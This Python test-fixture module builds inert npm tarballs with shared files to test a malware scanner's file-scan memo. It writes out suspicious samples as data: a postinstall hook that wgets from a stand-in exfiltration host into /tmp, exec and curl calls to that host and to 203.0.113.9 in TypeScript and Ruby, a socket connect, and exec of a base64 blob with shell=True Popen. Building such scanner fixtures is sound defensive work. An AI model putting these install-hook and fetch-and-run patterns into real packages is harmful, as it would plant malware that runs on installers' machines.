"""Inert npm tarballs that share files, as real archives do (a vendored library, an empty
`__init__.py`, the same bytes as TypeScript and as JavaScript), for the tests of the file-scan
memo. Nothing here is ever run."""

from __future__ import annotations

import base64
import json

from tests.inert_packages import PAYLOAD_URL, tar_gz

# A copy of "a library" several archives carry: imports, findings, an IoC, a long encoded
# string (an obfuscation sign), a CRLF line end.
VENDORED = (
    "import base64\r\nimport os\nimport subprocess\n\n"
    f"BLOB = '{base64.b64encode(bytes(range(256)) * 2).decode()}'\n\n"
    "def run(cmd):\n"
    "    return subprocess.Popen(cmd, shell=True, env=dict(os.environ))\n\n"
    "def stage():\n"
    f"    return exec(base64.b64decode(BLOB))  # see {PAYLOAD_URL}\n"
).encode()
BROKEN_PY = b"def broken(:\n    import socket\n    socket.socket().connect(('203.0.113.9', 80))\n"
TYPED = (
    b"import { exec } from 'child_process';\n"
    b"const target: string = 'https://drop.example-exfil.top/t';\n"
    b"export function go(x: number): void { exec('curl ' + target); eval(atob('ZXZhbA==')); }\n"
)
HOOK = b"#!/bin/sh\nwget https://drop.example-exfil.top/p -O /tmp/p\n"
RUBY = b"require 'open-uri'\nsystem('curl http://203.0.113.9/r')\n"


def sharing_archive(index: int) -> bytes:
    """The `index`-th archive: files shared by all, by every other one, and its own."""
    name = f"sharer{index}"
    manifest = {"name": name, "version": "1.0.0", "scripts": {"postinstall": "sh hook.sh"}}
    files = {
        "package/package.json": json.dumps(manifest, indent=2).encode(),
        "package/vendor/lib/__init__.py": b"",
        "package/vendor/lib/core.py": VENDORED,
        "package/hook.sh": HOOK,
        "package/index.js": f"require('https').get('https://{name}.example-exfil.top/');\n".encode(),
    }
    if index % 2:
        files["package/src/typed.ts"] = TYPED  # TypeScript: no syntax error reported
        files["package/lib/broken.py"] = BROKEN_PY
        files["package/lib/tasks.rb"] = RUBY
    else:
        files["package/dist/typed.js"] = TYPED  # the same bytes as JavaScript: one reported
        files["package/other/place/core.py"] = VENDORED  # twice in one archive
    return tar_gz(files)


def sharing_corpus(count: int) -> list[tuple[str, bytes]]:
    """(file name, archive) of `count` archives, named as npm tarballs."""
    return [(f"sharer{i}-1.0.0.tgz", sharing_archive(i)) for i in range(count)]
